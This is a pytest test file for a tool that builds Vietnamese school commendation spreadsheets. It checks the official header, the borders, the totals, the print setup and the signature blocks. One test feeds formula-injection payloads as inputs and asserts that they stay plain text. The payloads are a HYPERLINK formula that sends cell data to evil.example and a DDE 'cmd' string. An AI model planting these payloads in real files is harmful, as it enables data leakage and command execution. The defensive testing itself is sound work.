"""The sheet a commune files (school_emulation_report/tools/xlsx_builder.py): the
NĐ 30/2020 frame, borders and wrap, print set-up, totals, signers; no formula, link
or text number from what a user typed. Read back with openpyxl and from the XML."""

import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest
from conftest import load_by_path

xb = load_by_path("school_emulation_report/tools/xlsx_builder.py", "se_xlsx_frame")

COLUMNS = [
    ("STT", 5, "int"),
    ("Họ và tên", 22, "text"),
    ("Danh hiệu", 24, "text"),
    ("Ngày quyết định", 11, "date"),
    ("Tiền thưởng (đồng)", 13, "money"),
    ("Điểm", 8, "decimal"),
]
ROWS = [
    (1, "Lê Thị Hồng", "Chiến sĩ thi đua cơ sở", date(2026, 7, 15), 2530000, 92.5),
    (2, "Nguyễn Văn Hùng", "Lao động tiên tiến", date(2026, 7, 15), 760000, None),
]
FRAME = {
    "agency": {"superior": "UBND XÃ XUÂN SƠN", "agency": "TRƯỜNG THCS XUÂN SƠN"},
    "place_date": "Xuân Sơn, ngày 15 tháng 7 năm 2026",
    "signatures": [
        ("NGƯỜI LẬP BIỂU", "(Ký, ghi rõ họ tên)", "Trần Thị Mai"),
        ("HIỆU TRƯỞNG", "(Ký, ghi rõ họ tên và đóng dấu)", "Nguyễn Văn Hùng"),
    ],
}


def _sheet(rows=ROWS, **extra):
    return {
        "name": "Khen thưởng",
        "title": "DANH SÁCH KHEN THƯỞNG",
        "subtitle": "Năm học 2025-2026",
        "columns": COLUMNS,
        "rows": rows,
        "totals": {"label": "Tổng cộng", "sum": [4]},
        **FRAME,
        **extra,
    }


def _data(sheet):
    return xb.build([sheet])


def _ws(data):
    return openpyxl.load_workbook(io.BytesIO(data))["Khen thưởng"]


def _sheet_xml(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def _values(ws):
    return {
        cell.coordinate: cell.value
        for row in ws.iter_rows()
        for cell in row
        if cell.value
    }


def test_agency_header_motto_title_and_table_below():
    ws = _ws(_data(_sheet()))
    assert ws["A1"].value == "UBND XÃ XUÂN SƠN"
    assert ws["A2"].value == "TRƯỜNG THCS XUÂN SƠN"
    assert ws["A2"].font.b
    # the motto on the right half: the first column after the agency block
    right = [c for c in ws[1] if c.value == xb.NATION]
    assert right and right[0].column > 1 and right[0].font.b
    assert [c.value for c in ws[2] if c.value][-1] == xb.MOTTO
    assert ws["A4"].value == "DANH SÁCH KHEN THƯỞNG"
    assert ws["A4"].font.b and ws["A4"].alignment.horizontal == "center"
    assert "A4:F4" in {str(r) for r in ws.merged_cells.ranges}
    assert ws["A5"].value == "Năm học 2025-2026"
    assert [c.value for c in ws[7]] == [h for h, _w, _k in COLUMNS]
    assert ws.freeze_panes == "A8"
    assert ws["B8"].value == "Lê Thị Hồng"


def test_borders_and_wrap_on_the_whole_table():
    ws = _ws(_data(_sheet()))
    for row in ws.iter_rows(min_row=7, max_row=10, max_col=len(COLUMNS)):
        for cell in row:
            assert cell.border.left.style == "thin", cell.coordinate
            assert cell.border.bottom.style == "thin", cell.coordinate
    assert ws["B8"].alignment.wrap_text
    assert ws["A7"].alignment.wrap_text  # the header row too
    # above and below the table: no grid of borders
    assert ws["A1"].border.left.style is None


def test_totals_row_sums_the_amounts():
    ws = _ws(_data(_sheet()))
    assert ws["B10"].value == "Tổng cộng" and ws["B10"].font.b
    assert ws["E10"].value == 2530000 + 760000
    assert ws["E10"].number_format == "#,##0"
    assert ws["A10"].value is None  # no sum of the STT column


def test_totals_with_given_values():
    sheet = _sheet(totals={"label": "Cộng", "sum": [4], "values": {5: 46.25}})
    ws = _ws(_data(sheet))
    assert ws["F10"].value == 46.25


def test_place_date_and_signatures_at_the_end():
    ws = _ws(_data(_sheet()))
    values = _values(ws)
    place = [k for k, v in values.items() if v == FRAME["place_date"]]
    assert place and int(re.sub(r"\D", "", place[0])) > 10
    titles = {v: k for k, v in values.items()}
    assert titles["NGƯỜI LẬP BIỂU"].startswith("A")
    assert not titles["HIỆU TRƯỞNG"].startswith("A")
    row_title = int(re.sub(r"\D", "", titles["HIỆU TRƯỞNG"]))
    row_name = int(re.sub(r"\D", "", titles["Nguyễn Văn Hùng"]))
    assert row_name - row_title >= 4  # room to sign and stamp
    assert int(re.sub(r"\D", "", titles["(Ký, ghi rõ họ tên)"])) == row_title + 1


def test_print_setup_a4_landscape_one_page_wide_header_repeated():
    data = _data(_sheet())
    ws = _ws(data)
    assert ws.page_setup.orientation == "landscape"
    assert int(ws.page_setup.paperSize) == 9  # A4
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    # fitToWidth 1 is the OOXML default (not written); 0 pages down = as needed
    assert ws.page_setup.fitToWidth in (None, 1)
    assert ws.page_setup.fitToHeight == 0
    assert ws.print_title_rows.replace("$", "") == "7:7"
    assert ws.print_area[0].replace("$", "").split("!")[-1].startswith("A1:F")
    xml = _sheet_xml(data)
    assert 'fitToHeight="0"' in xml and 'fitToWidth="' not in xml
    # page numbers at the top centre from page 2 on (NĐ 30/2020)
    assert 'differentFirst="1"' in xml
    assert "<oddHeader>&amp;C&amp;P</oddHeader>" in xml


def test_plain_sheet_keeps_its_layout():
    """Without the frame: title in A1, header in row 3 (the older callers)."""
    data = xb.build(
        [{"name": "Khen thưởng", "columns": COLUMNS, "rows": ROWS, "title": "T"}]
    )
    ws = _ws(data)
    assert ws["A1"].value == "T"
    assert ws["B3"].value == "Họ và tên"
    assert ws.freeze_panes == "A4"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "=1+1",
        "http://evil.example/",
    ],
)
def test_user_text_is_never_a_formula_or_a_link(text):
    rows = [(1, text, text, None, 1, 1.0)]
    sheet = _sheet(
        rows=rows,
        title=text,
        subtitle=text,
        agency={"superior": text, "agency": text},
        place_date=text,
        signatures=[(text, text, text)],
        name=text,
    )
    data = xb.build([sheet])
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    assert "hyperlink" not in xml.lower()
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book.worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value == text]
    assert len(cells) >= 6
    assert {c.data_type for c in cells} == {"s"}


def test_numbers_are_numbers_never_text():
    ws = _ws(_data(_sheet()))
    assert ws["E8"].data_type == "n" and ws["E8"].value == 2530000
    assert ws["A8"].data_type == "n"
    with pytest.raises(ValueError):
        _data(_sheet(rows=[(1, "A", "B", None, "2.530.000", 1.0)]))
    with pytest.raises(ValueError):
        _data(_sheet(rows=[(True, "A", "B", None, 1, 1.0)]))


def test_money_format_is_locale_neutral_thousands():
    """``#,##0``: the file's code says "thousands separator"; the reader's locale
    draws it (2.530.000 in Vietnamese settings). ``#.##0`` would be a decimal
    point, not Vietnamese thousands."""
    ws = _ws(_data(_sheet()))
    assert ws["E8"].number_format == "#,##0"
    assert ws["F8"].number_format == "#,##0.00"
    assert ws["D8"].number_format == "dd/mm/yyyy"


def test_long_text_gets_a_taller_row():
    long = "Hoàn thành xuất sắc nhiệm vụ năm học 2025-2026, sáng kiến cấp cơ sở " * 3
    ws = _ws(_data(_sheet(rows=[(1, "A", long, None, 1, 1.0)])))
    assert ws.row_dimensions[8].height and ws.row_dimensions[8].height >= 3 * 15
    assert not ws.row_dimensions[9].height  # the totals row: one line


def test_one_column_sheet():
    data = xb.build(
        [
            {
                "name": "Khen thưởng",
                "columns": [("Tên", 30, "text")],
                "rows": [("A",)],
                "title": "X",
                **FRAME,
            }
        ]
    )
    ws = _ws(data)
    head = [ws.cell(row=r, column=1).value for r in range(1, 5)]
    assert head[0] == "UBND XÃ XUÂN SƠN"
    assert set(head) == {
        "UBND XÃ XUÂN SƠN",
        "TRƯỜNG THCS XUÂN SƠN",
        xb.NATION,
        xb.MOTTO,
    }
    assert "A" in _values(ws).values()
